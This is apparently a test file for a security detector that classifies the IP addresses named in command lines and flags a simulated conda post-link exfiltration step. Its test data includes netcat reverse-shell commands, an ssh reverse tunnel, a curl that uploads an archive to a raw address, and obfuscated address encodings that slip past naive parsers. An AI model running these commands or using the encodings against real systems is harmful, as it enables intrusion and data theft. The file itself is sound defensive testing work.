import t from 'tap';
import { argumentNetworks } from '../scorer/features/argnet';
import { FeatureExtractor } from '../scorer/features/extract';
import { UidMap } from '../scorer/features/subject';
import { START, developerRow as row } from '../scorer/eval/developer-stream';
import { scoreScenarioSet } from './helpers/scenario-run';
import { classesOf, shellRow } from './helpers/command-class';

// The network of the addresses a command line names (scorer/features/argnet.ts): a class of
// the address, as a connection's peer has one, not the address; the internet's addresses only.

t.test('an internet address a command line names, once', async (t) => {
  t.same(argumentNetworks('iptables -t nat -I PREROUTING -i tun0 -p udp --dport 53 -j DNAT --to-destination 198.51.100.53:53'), ['public']);
  t.same(argumentNetworks('curl -s -X POST --data-binary @/tmp/x.tgz https://203.0.113.119/api/v2/telemetry'), ['public'], 'in a URL');
  t.same(argumentNetworks('ssh -f -N -R 15432:127.0.0.1:5432 -p 443 tun@203.0.113.140'), ['public'], 'after a user name; the forward is to this host');
  t.same(argumentNetworks('sed -i s/dhcp-option DNS 10.40.0.2/dhcp-option DNS 198.51.100.53/ /etc/openvpn/server.conf'), ['public'], 'inside an expression');
  t.same(argumentNetworks('nc -e /bin/sh 198.51.100.7 4444 198.51.100.8'), ['public'], 'once');
  t.same(argumentNetworks('ping -c1 --dns=8.8.8.8'), ['public'], "an option's value");
});

t.test("this host's and the site's own addresses name none: where a program listens, how admins name the site's hosts", async (t) => {
  t.same(argumentNetworks('node /usr/local/bin/configurable-http-proxy --ip  --port 443 --api-ip 127.0.0.1 --api-port 8001'), []);
  t.same(argumentNetworks('nc -l 0.0.0.0 4444'), []);
  t.same(argumentNetworks('psql -h 10.40.2.7 -U app appdb'), [], 'a DBA at the database by its address');
  t.same(argumentNetworks('smbclient //10.40.3.20/finance -U hana'), []);
  t.same(argumentNetworks('iptables -t nat -I POSTROUTING -s 10.40.9.0/24 -j MASQUERADE'), [], 'a network by its prefix');
  t.same(argumentNetworks('curl http://169.254.169.254/latest/meta-data/'), [], 'link-local');
});

t.test('versions, names and non-addresses name no network', async (t) => {
  for (const line of [
    'bunzip2 restic_0.17.3_linux_amd64.bz2',
    'dpkg -i pkg-1.2.3.4.deb',
    'pip install foo==1.2.3.4',
    'git checkout v1.2.3.4',
    'ls /usr/lib/python3.12.1.0',
    'echo 999.1.2.3',
    'echo 1.2.3.4.5',
    'ssh db.internal',
    'npm i lodash@4.17.21',
    'date -d @1767225600',
    'java -Dversion=34.1.2.3 -jar app.jar',
    'echo std::string Foo::Bar',
    'ip -6 addr add fd00::1/64 dev eth0',
    'ip link set eth0 address aa:bb:cc:dd:ee:ff',
    'devmem 0xfe000000',
    'curl http://[::1]:8080/',
    'psql -U postgres -c select 1',
    '',
  ])
    t.same(argumentNetworks(line), [], line);
});

t.test('an address written as inet_aton and curl also read it, or in IPv6', async (t) => {
  // ping, ssh, nc (getaddrinfo's inet_aton) and curl (its URL parser) reach 203.0.113.9 by each
  for (const line of [
    'nc -e /bin/sh 0xcb.0.113.9 4444',
    'nc -e /bin/sh 203.0.113.011 4444',
    'ssh -R 9000:localhost:22 u@0313.0.0161.011',
    'curl -sI https://3405803785/health',
    'curl -sI https://3405803785./health',
    'curl -sI http://0xcb007109/x',
    'curl -sI https://203.0.29961/x',
    'curl -sI https://u:p@203.7369:8443/x',
    'curl -sI https://[::ffff:cb00:7109]/x',
    'curl -sI https://[2001:4860:4860::8888]:443/x',
    'ssh -D 1080 -N u@2a00:1450:4001:81b::200e',
    'ping6 -c1 ::ffff:203.0.113.9',
    'ping6 -c1 0:0:0:0:0:ffff:203.0.113.9',
    'ping6 -c1 2a00:1450:4001:81b:0:0:0:200e',
  ])
    t.same(argumentNetworks(line), ['public'], line);
  t.same(argumentNetworks('curl http://0x7f.1/ http://2130706433/'), [], 'this host, written so');
});

t.test('a hostile command line costs a bounded head of it', async (t) => {
  const many = Array.from({ length: 20 }, (_, i) => `10.0.${i}.1`).join(' ');
  t.same(argumentNetworks(`nc -e /bin/sh ${many} 198.51.100.1 4444`), ['public'], 'private addresses before it do not hide a public one');
  t.same(argumentNetworks(`${Array.from({ length: 100_000 }, () => '10.0.0.1').join(' ')} 198.51.100.1`), [], 'nor a line of them');
  t.same(argumentNetworks(`${'x'.repeat(5000)} 198.51.100.1`), [], 'nor past the head');
});

t.test('process and shell events carry the network as a class, paired with the program', async (t) => {
  const x = new FeatureExtractor({ users: new UidMap(), overrides: {} });
  const dnat = 'iptables -t nat -I PREROUTING -p udp --dport 53 -j DNAT --to-destination 198.51.100.53:53';
  t.same(classesOf(x, row(START, '/usr/sbin/iptables', dnat), 'argnet'), { values: ['argnet=public'], paired: true });
  t.same(classesOf(x, shellRow('curl -s https://203.0.113.119/u'), 'argnet').values, ['argnet=public']);
  t.same(classesOf(x, row(START + 60, '/usr/bin/git', 'git status'), 'argnet').values, [], 'a command naming no address carries none');
});

t.test('the fifth held-out set (seed 12): the stage posts to a raw address, and no normal row is an alert for naming one', async (t) => {
  const { set, rows } = await scoreScenarioSet(t, 12, 'heldout5');
  const story = rows.filter((_, i) => set.testStory[i] === 'conda-postlink');
  // `curl … --data-binary @/tmp/.conda_pkgs_cache.tgz https://203.0.113.119/…` under the stage:
  // before, 0.705, usual for the host's persons, and the chain passes nothing to a usual row
  const curl = story.filter((s) => s.event === 'exec /usr/bin/curl <- /opt/conda/envs/vision/bin/python');
  t.equal(curl.length, 1, "the stage's one curl");
  t.equal(curl[0]?.verdict, 'bad', `the stage's curl is an alert (${curl[0]?.score?.toFixed(3)})`);
  const attack = new Set(set.stories.map((s) => s.id));
  const normal = rows.filter((_, i) => !attack.has(set.testStory[i]));
  t.same(
    normal.filter((s) => s.verdict === 'bad' && /argnet/.test(s.reasons)).map((s) => `${s.subject} ${s.event}`),
    [],
    "no normal row is an alert that names a command's network (fail2ban's bans name public addresses every day)",
  );
});
